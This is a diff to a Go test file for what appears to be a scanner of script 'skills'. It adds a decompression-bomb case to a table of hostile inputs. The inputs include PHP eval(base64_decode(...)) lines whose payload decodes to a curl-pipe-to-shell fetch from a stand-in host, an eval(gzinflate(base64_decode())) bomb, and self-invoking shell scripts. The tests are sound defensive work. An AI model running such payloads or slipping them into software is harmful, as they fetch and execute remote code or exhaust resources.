@@ -1,6 +1,8 @@
 package script
 
 import (
+	"bytes"
+	"compress/flate"
 	"encoding/base64"
 	"strings"
 	"testing"
@@ -9,6 +11,12 @@ import (
 // Hostile inputs give hits or bounded, reported skips: never a crash, and
 // work proportional to the input (counted, not timed).
 func TestHostileInputs(t *testing.T) {
+	// 64 MiB of zeros, deflated then base64: inflated to the bound only.
+	var zb bytes.Buffer
+	zw, _ := flate.NewWriter(&zb, flate.BestCompression)
+	zw.Write(make([]byte, 64<<20))
+	zw.Close()
+	phpBomb := base64.StdEncoding.EncodeToString(zb.Bytes())
 	long := strings.Repeat("a", 1<<20)
 	// A decoder bomb: base64 of base64 of … of a command, run.
 	bomb := "echo hi"
@@ -40,6 +48,7 @@ func TestHostileInputs(t *testing.T) {
 		{"self-running skill", skill("a.sh", "bash b.sh\n", "b.sh", "bash a.sh\n"), ""},
 		{"1 MiB line of ruby", skill("x.rb", "x = '"+long+"'\nsystem(x)\n"), ""},
 		{"many encoded commands in php", skill("x.php", "<?php\n"+strings.Repeat("eval(base64_decode('Y3VybCBodHRwOi8vaC94IHwgc2g='));\n", 200)), "decoded payloads"},
+		{"a decompression bomb in php", skill("x.php", "<?php\n$p = '"+phpBomb+"';\neval(gzinflate(base64_decode($p)));\n"), ""},
 		{"many literals in perl", skill("x.pl", "use MIME::Base64; system(1);\n"+strings.Repeat("'"+strings.Repeat("QUFB", 64)+"', ", 20000)+"\n"), "decoded"},
 	}
 	for _, c := range cases {
